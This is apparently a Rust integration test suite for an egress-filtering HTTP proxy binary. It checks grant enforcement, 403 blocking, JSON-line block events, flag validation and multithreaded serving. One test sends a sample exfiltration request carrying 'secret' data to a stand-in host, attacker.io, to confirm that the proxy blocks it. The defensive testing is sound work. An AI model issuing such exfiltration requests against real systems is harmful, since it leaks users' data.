#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The standalone `ironclaw-proxy` binary, run as a real process.

mod common;

use common::*;
use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};
use tokio::net::TcpStream;

const BIN: &str = env!("CARGO_BIN_EXE_ironclaw-proxy");

struct Child(std::process::Child);
impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[tokio::test]
async fn the_binary_proxies_grants_and_writes_block_events_as_json_lines() {
    let origin = http_origin("127.0.0.2").await;
    let port = origin.addr.port();
    let mut child = Child(
        Command::new(BIN)
            .args(["--listen", "127.0.0.1:0"])
            .args(["--grant", &format!("origin.test:{port}")])
            .args(["--grant", &format!("127.0.0.2:{port}")])
            .args(["--resolve", "origin.test=127.0.0.2"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut out = BufReader::new(child.0.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    let addr = line
        .trim()
        .strip_prefix("http proxy on ")
        .unwrap()
        .to_owned();
    let mut c = TcpStream::connect(&addr).await.unwrap();
    let r = roundtrip(
        &mut c,
        format!("GET http://origin.test:{port}/hi HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes(),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(r.text().starts_with("path=/hi "), "{}", r.text());
    let r = roundtrip(
        &mut c,
        b"GET http://attacker.io/exfil?data=secret HTTP/1.1\r\nHost: attacker.io\r\n\r\n",
    )
    .await;
    assert_eq!(r.status, 403);
    let mut err = BufReader::new(child.0.stderr.take().unwrap());
    let mut ev = String::new();
    err.read_line(&mut ev).unwrap();
    let v: serde_json::Value = serde_json::from_str(&ev).unwrap();
    assert_eq!(v["event"], "NETWORK_BLOCK");
    assert_eq!(v["resource"], "attacker.io:80");
    assert_eq!(v["blocked"], true);
    assert_eq!(
        v["granted"],
        serde_json::json!([format!("origin.test:{port}"), format!("127.0.0.2:{port}")])
    );
    // No message content (the URL's path and query) in the event.
    assert!(!ev.contains("secret") && !ev.contains("exfil"), "{ev}");
}

#[test]
fn bad_flags_are_refused_naming_the_flag_and_the_expected_form() {
    for (args, want) in [
        (
            vec!["--listen", "127.0.0.1:0", "--grant", "example.com"],
            "missing ':PORT'",
        ),
        (
            vec!["--listen", "127.0.0.1:0", "--resolve", "a.test"],
            "expected NAME=IP",
        ),
        (vec!["--forward", "127.0.0.2:993"], "LISTEN_ADDR=HOST:PORT"),
        (vec!["--listen", "nowhere"], "--listen"),
        (
            vec!["--listen", "127.0.0.1:0", "--threads", "0"],
            "--threads",
        ),
        (vec![], "nothing to serve"),
    ] {
        let out = Command::new(BIN).args(&args).output().unwrap();
        assert!(!out.status.success(), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(want), "{args:?}: {err}");
    }
}

#[tokio::test]
async fn every_thread_of_the_binary_serves_and_checks_grants() {
    let origin = http_origin("127.0.0.2").await;
    let o = origin.addr.to_string();
    let mut child = Child(
        Command::new(BIN)
            .args(["--listen", "127.0.0.1:0", "--threads", "3", "--grant", &o])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut out = BufReader::new(child.0.stdout.take().unwrap());
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    let addr = line
        .trim()
        .strip_prefix("http proxy on ")
        .unwrap()
        .to_owned();
    // Enough connections that the kernel spreads them over the three listening sockets.
    let mut tasks = Vec::new();
    for i in 0..24 {
        let (addr, o) = (addr.clone(), o.clone());
        tasks.push(tokio::spawn(async move {
            let mut c = TcpStream::connect(&addr).await.unwrap();
            let ok = roundtrip(
                &mut c,
                format!("GET http://{o}/{i} HTTP/1.1\r\n\r\n").as_bytes(),
            )
            .await;
            let no = roundtrip(&mut c, b"GET http://attacker.io/ HTTP/1.1\r\n\r\n").await;
            (ok.status, no.status)
        }));
    }
    for t in tasks {
        assert_eq!(t.await.unwrap(), (200, 403));
    }
    let mut err = BufReader::new(child.0.stderr.take().unwrap());
    for _ in 0..24 {
        let mut ev = String::new();
        err.read_line(&mut ev).unwrap();
        assert!(ev.contains("\"resource\":\"attacker.io:80\""), "{ev}");
    }
}
